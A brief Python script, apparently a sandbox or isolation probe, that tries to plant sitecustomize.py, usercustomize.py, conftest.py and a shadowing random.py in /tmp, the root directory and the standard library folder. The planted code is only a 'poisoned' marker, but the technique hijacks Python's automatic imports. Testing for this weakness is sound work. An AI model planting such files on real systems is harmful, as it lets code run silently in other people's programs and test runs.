import os

for directory in ("/tmp", "/", "/packages", os.path.dirname(os.__file__)):
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "random.py"):
        try:
            with open(os.path.join(directory, name), "w") as file:
                file.write("print('poisoned')")
        except OSError:
            pass
